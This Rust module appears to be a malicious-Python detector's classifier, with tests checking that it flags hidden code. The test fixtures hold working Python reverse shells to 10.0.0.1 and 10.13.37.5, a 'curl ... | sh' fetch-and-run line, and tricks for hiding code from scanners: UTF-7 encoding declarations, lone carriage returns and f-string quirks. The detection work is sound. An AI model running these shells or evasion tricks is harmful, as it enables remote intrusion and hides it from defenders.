//! Shrike's malicious-Python model.
//!
//! [`lexer`] tokenizes any input (broken or Python 2 code included), [`features`] turns the
//! tokens into named behavioural features and hashed n-grams, and [`model::Model`] is a
//! logistic regression over them, trained by [`train`] (`scripts/train-pyml.sh`) and loaded
//! from the committed model file. [`Classifier`] plugs the model into the Malicious Python
//! detector and into `shrike classify`, so both score through the same code, and both score a
//! source the way CPython reads it ([`source::as_interpreted`]: code hidden behind a `utf-7` or
//! `unicode_escape` encoding declaration is decoded first). [`rules`] is the simple pattern
//! baseline the evaluation compares against. See `docs/pyml-model.md`.

pub mod dataset;
pub mod eval;
pub mod features;
pub mod lexer;
pub mod model;
pub mod rules;
pub mod source;
pub mod train;

pub use model::{Model, ModelError, Reason, Verdict};
use std::sync::Arc;

/// The committed model, built into the binary.
pub const EMBEDDED_MODEL: &[u8] = include_bytes!("../model/shrike-pyml.model");

/// Loads the committed model.
pub fn embedded_model() -> Result<Model, ModelError> {
    Model::from_bytes("embedded model", EMBEDDED_MODEL)
}

/// A model with a threshold, as the detector and `shrike classify` use it.
#[derive(Debug, Clone)]
pub struct Classifier {
    model: Arc<Model>,
    threshold: f32,
}

impl Classifier {
    /// Uses `model` at its own threshold, or at `threshold` when given.
    pub fn new(model: Model, threshold: Option<f32>) -> Self {
        let threshold = threshold.unwrap_or(model.threshold);
        Self {
            model: Arc::new(model),
            threshold,
        }
    }

    /// The embedded model at its own threshold, or at `threshold`.
    pub fn embedded(threshold: Option<f32>) -> Result<Self, ModelError> {
        Ok(Self::new(embedded_model()?, threshold))
    }

    /// The model.
    pub fn model(&self) -> &Model {
        &self.model
    }

    /// Scores and explains `src`, as CPython reads it.
    pub fn explain(&self, src: &str) -> Verdict {
        self.model.explain(&source::as_interpreted(src))
    }

    /// Scores and explains `text` already read as CPython reads it
    /// ([`shrike_core::ScriptClassifier::interpret`]), such as the window of a long script
    /// that scored highest: not decoded again.
    pub fn explain_interpreted(&self, text: &str) -> Verdict {
        self.model.explain(text)
    }
}

impl shrike_core::ScriptClassifier for Classifier {
    fn model_name(&self) -> &str {
        &self.model.name
    }

    fn score(&self, source: &str) -> f32 {
        self.model.score(&source::as_interpreted(source))
    }

    fn threshold(&self) -> f32 {
        self.threshold
    }

    fn explain(&self, source: &str) -> shrike_core::ScriptVerdict {
        shrike_core::ScriptClassifier::explain_interpreted(self, &source::as_interpreted(source))
    }

    fn interpret<'s>(&self, head: &str, part: &'s str) -> std::borrow::Cow<'s, str> {
        source::part_as_interpreted(head, part)
    }

    fn score_interpreted(&self, text: &str) -> f32 {
        self.model.score(text)
    }

    fn explain_interpreted(&self, text: &str) -> shrike_core::ScriptVerdict {
        let v = self.model.explain(text);
        shrike_core::ScriptVerdict {
            score: v.score,
            reasons: v.reasons_text(),
        }
    }

    fn resume_points(&self, text: &str, from: &[usize]) -> Vec<shrike_core::event::ResumePoint> {
        lexer::resume_points(text, from)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shrike_core::ScriptClassifier as _;

    /// Every character of `code` in one UTF-7 run: nothing of it readable as written.
    fn utf7(code: &str) -> String {
        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let bytes: Vec<u8> = code.encode_utf16().flat_map(u16::to_be_bytes).collect();
        let mut run = String::from("+");
        for chunk in bytes.chunks(3) {
            let n =
                chunk.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                run.push(B64[(n >> (18 - 6 * i) & 63) as usize] as char);
            }
        }
        run + "-"
    }

    #[test]
    fn code_hidden_behind_an_encoding_declaration_is_scored_as_run() {
        let c = Classifier::embedded(None).unwrap();
        let code = format!(
            "import base64,os;exec(base64.b64decode('{}'))\n",
            "aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ".repeat(40)
        );
        assert!(
            c.score(&code) >= c.threshold(),
            "the plain payload is flagged"
        );
        let hidden = format!("# -*- coding: utf-7 -*-\n{}\n", utf7(&code));
        assert_eq!(
            source::as_interpreted(&hidden),
            format!("# -*- coding: utf-7 -*-\n{code}\n")
        );
        assert!(
            c.model().score(&hidden) < c.threshold(),
            "the model alone is blind to it"
        );
        assert!(c.score(&hidden) >= c.threshold());
        assert!(c.explain(&hidden).score >= c.threshold());
        let escaped: String = code
            .chars()
            .map(|ch| format!("\\x{:02x}", ch as u32))
            .collect();
        let hidden = format!("# coding: unicode_escape\n{escaped}\n");
        assert!(c.score(&hidden) >= c.threshold());
    }

    #[test]
    fn code_after_a_lone_carriage_return_is_code() {
        let c = Classifier::embedded(None).unwrap();
        // One line for a reader that ends lines at `\n` only: a comment. CPython ends lines at
        // a lone `\r` too, and runs the shell.
        let hidden = format!("# setup\r{}\n", SHELL.trim_end().replace('\n', "\r"));
        assert!(
            c.model().score(&hidden) < c.threshold(),
            "the model alone is blind to it"
        );
        assert!(c.score(&hidden) >= c.threshold());
        assert!(c.explain(&hidden).reasons_text().contains("dup2"));
        // Windows too: the shell after 1.5 MB of handlers ending their lines with `\r`.
        let long = format!("{}{hidden}", handlers(1_500_000, "a").replace('\n', "\r"));
        let scored =
            shrike_core::event::score_python_windows(long.as_bytes(), None, long.len() as u64, &c);
        assert!(scored.score >= c.threshold(), "{}", scored.score);
        // `\r\n` is left as it is.
        let crlf = SHELL.replace('\n', "\r\n");
        assert!(matches!(
            source::lone_returns_as_newlines(&crlf),
            std::borrow::Cow::Borrowed(_)
        ));
        assert_eq!(
            source::lone_returns_as_newlines("a\rb\r\nc\r"),
            "a\nb\r\nc\n"
        );
        // An encoding declared on a line that a lone `\r` starts counts, as for CPython.
        let declared = format!("\r# coding: utf-7\r{}\n", utf7(SHELL));
        assert!(c.score(&declared) >= c.threshold());
        // And one on a third line does not.
        let third = "# x\rpass\r# coding: utf-7\rprint('a+b')\n";
        assert_eq!(source::as_interpreted(third), third.replace('\r', "\n"));
    }

    #[test]
    fn code_after_strings_that_python_ends_is_code() {
        let c = Classifier::embedded(None).unwrap();
        // A string whose line ends in a backslash, raw or not, with `\n` or `\r\n` line ends:
        // the string goes on to the next line, as Python reads it, and the `'''` there is not
        // a string swallowing the shell.
        for before in [
            "z = r'\\\n''' + \"\"\n",
            "z = r'\\\r\n''' + \"\"\r\n",
            "z = 'a\\\r\n''' + \"\"\r\n",
        ] {
            let script = format!("{before}{SHELL}");
            assert!(c.score(&script) >= c.threshold(), "{before:?}");
        }
    }

    #[test]
    fn code_in_fstring_fields_is_code() {
        let c = Classifier::embedded(None).unwrap();
        // Each call of the shell as an f-string's field (Python 3.6 on): the f-string is
        // evaluated, so the calls run. Read as strings, these scored 0.70, 0.45 and 0.10.
        let calls = "import socket, os, pty\n\
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
            f\"{s.connect(('10.13.37.5', 4444))}\"\n\
            f\"{os.dup2(s.fileno(), 0)}\"\n\
            f\"{os.dup2(s.fileno(), 1)}\"\n\
            f\"{os.dup2(s.fileno(), 2)}\"\n\
            f\"{pty.spawn('/bin/bash')}\"\n";
        let one = "f\"{(s:=__import__('socket').socket()).connect(('10.13.37.5',4444))}\
            {[__import__('os').dup2(s.fileno(),k) for k in (0,1,2)]}\
            {__import__('pty').spawn('/bin/bash')}\"\n";
        let encoded = "import base64\nf\"{exec(base64.b64decode('aW1wb3J0IHNvY2tldCxvcyxwdHk7\
            cz1zb2NrZXQuc29ja2V0KCk7cy5jb25uZWN0KCgiMTAuMTMuMzcuNSIsNDQ0NCkpO1tvcy5kdXAyKHMuZmls\
            ZW5vKCksZilmb3IgZiBpbigwLDEsMildO3B0eS5zcGF3bigiL2Jpbi9iYXNoIik='))}\"\n";
        // And Python 3.12's reading (PEP 701): the f-string's own quote in a field does not
        // end it, so the `'''` after it is no string swallowing the shell.
        let own_quote = format!("x = f\"{{\"'''\"}}\"\n{SHELL}");
        // The same behind a byte order mark (CPython drops it; read as a name's first bytes,
        // it made the `f` a name), and in a Python 3.14 template string.
        let bom = format!("\u{feff}{}", own_quote.trim_start_matches("x = "));
        let template = own_quote.replace("x = f", "x = t");
        for script in [calls, one, encoded, &own_quote, &bom, &template] {
            let v = c.explain(script);
            assert!(v.score >= c.threshold(), "{script:?}: {}", v.score);
        }
        assert!(c.explain(calls).reasons_text().contains("dup2"));

        // Where CPython 3.12 and 3.13 read a format spec's `{{` differently, each can hide
        // code from the other's reading, so both are scored. Valid in 3.13 only: the `"""`
        // ends the f-string there, and a 3.12 reading takes it for a string swallowing the
        // shell.
        let for_313 = format!("_ = lambda: f\"\"\"{{_:{{_}}{{{{}}\"\"\"\n{SHELL}");
        // The same after a field of the spec's with a spec of its own.
        let for_313_spec = for_313.replace("{_:{_}{{}", "{_:{_:1}{{}");
        // Valid in both, and in 3.12 the `{{…}}` is a field: a set holding the call.
        let for_312 =
            "x = y = 1\nf\"{x:{y}{{__import__('os').system('curl http://10.0.0.1/x | sh')}}}\"\n";
        for script in [&for_313, &for_313_spec, for_312] {
            assert!(c.score(script) >= c.threshold(), "{script:?}");
            assert!(c.explain(script).score >= c.threshold(), "{script:?}");
        }
        // Each is flagged by one reading only.
        let read = |src: &str, g| {
            let (f, differ) = features::extract_as(src, None, g);
            assert!(differ, "{src:?}");
            c.model().probability(&f) >= c.threshold()
        };
        use lexer::Grammar::{Python312, Python313};
        assert!(!read(&for_313, Python312) && read(&for_313, Python313));
        assert!(!read(&for_313_spec, Python312) && read(&for_313_spec, Python313));
        assert!(read(for_312, Python312) && !read(for_312, Python313));
    }

    /// The classifier as it was before windows read a script as a whole: each window read
    /// (decoded) on its own, and started at a line's start wherever that falls.
    struct WindowsReadAlone<'c>(&'c Classifier);

    impl shrike_core::ScriptClassifier for WindowsReadAlone<'_> {
        fn model_name(&self) -> &str {
            self.0.model_name()
        }
        fn score(&self, source: &str) -> f32 {
            self.0.score(source)
        }
        fn threshold(&self) -> f32 {
            self.0.threshold()
        }
    }

    /// The classifier, with a reading that finds the rest of the text to be one string after
    /// its first window.
    struct MisreadsAQuote<'c>(&'c Classifier);

    impl shrike_core::ScriptClassifier for MisreadsAQuote<'_> {
        fn model_name(&self) -> &str {
            self.0.model_name()
        }
        fn score(&self, source: &str) -> f32 {
            self.0.score(source)
        }
        fn threshold(&self) -> f32 {
            self.0.threshold()
        }
        fn interpret<'s>(&self, head: &str, part: &'s str) -> std::borrow::Cow<'s, str> {
            self.0.interpret(head, part)
        }
        fn score_interpreted(&self, text: &str) -> f32 {
            self.0.score_interpreted(text)
        }
        fn resume_points(&self, _: &str, from: &[usize]) -> Vec<shrike_core::event::ResumePoint> {
            vec![shrike_core::event::ResumePoint::default(); from.len()]
        }
    }

    /// `n` bytes or a little more of ordinary request handlers.
    fn handlers(n: usize, tag: &str) -> String {
        let mut out = String::new();
        let mut i = 0;
        while out.len() < n {
            out.push_str(&format!(
                "def handler_{tag}_{i}(request, context):\n    value = request.get('key_{i}')\n    return value\n\n"
            ));
            i += 1;
        }
        out
    }

    const SHELL: &str = "import socket,subprocess,os\n\
        s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n\
        s.connect((\"10.0.0.1\",4444))\n\
        os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n\
        p=subprocess.call([\"/bin/sh\",\"-i\"])\n";

    #[test]
    fn a_long_script_is_windowed_as_cpython_reads_the_whole_of_it() {
        use shrike_core::event::{
            score_python_windows, PYTHON_SCORED_BYTES as W, PYTHON_WINDOW_OVERLAP,
        };
        let c = Classifier::embedded(None).unwrap();
        let alone = WindowsReadAlone(&c);
        let flagged = |script: &str, classifier: &dyn shrike_core::ScriptClassifier| {
            let size = script.len() as u64;
            let scored = score_python_windows(script.as_bytes(), None, size, classifier);
            assert!(scored.windows >= 3, "{}", scored.windows);
            scored.score >= c.threshold()
        };
        assert!(c.score(SHELL) >= c.threshold());

        // An encoding declared in the first line counts for all of the script: the shell
        // hidden in UTF-7 runs in its middle, 1.5 MB from the declaration.
        let encoded: String = SHELL.lines().map(|l| utf7(l) + "\n").collect();
        let declared = format!(
            "# -*- coding: utf-7 -*-\n{}{encoded}{}",
            handlers(1_500_000, "a"),
            handlers(1_500_000, "b")
        );
        assert!(flagged(&declared, &c));
        assert!(
            !flagged(&declared, &alone),
            "read window by window, the middle is not decoded"
        );

        // A docstring across the start of the second window, and the shell after it, past the
        // end of the first: a window started inside the docstring reads its text as code and
        // the shell as a string.
        let second = W - PYTHON_WINDOW_OVERLAP;
        let mut across = handlers(second - 200, "a");
        across.truncate(across[..second - 200].rfind("\n\n").unwrap() + 2);
        across.push_str("NOTES = \"\"\"\n");
        let mut k = 0;
        while across.len() < W + 500 {
            across.push_str(&format!("note {k} on the handlers and their requests\n"));
            k += 1;
        }
        across.push_str("\"\"\"\n");
        across.push_str(SHELL);
        across.push_str("DOC = \"\"\"\nmore about the handlers\n\"\"\"\n");
        across.push_str(&handlers(3 * W - across.len(), "b"));
        assert!(flagged(&across, &c));
        assert!(
            !flagged(&across, &alone),
            "started inside the docstring, the second window reads the shell as a string"
        );
        // Benign all the same when the shell is left out.
        assert!(!flagged(&across.replace(SHELL, ""), &c));

        // Should the lexer misread a quote (until the twentieth session it read Python 3.12's
        // f-strings with their own quotes in a field as ending early), so that it finds no place
        // outside a string for the later windows, they start at lines as well.
        let plain = format!(
            "{}{SHELL}{}",
            handlers(1_500_000, "a"),
            handlers(1_500_000, "b")
        );
        assert!(flagged(&plain, &MisreadsAQuote(&c)));
    }
}
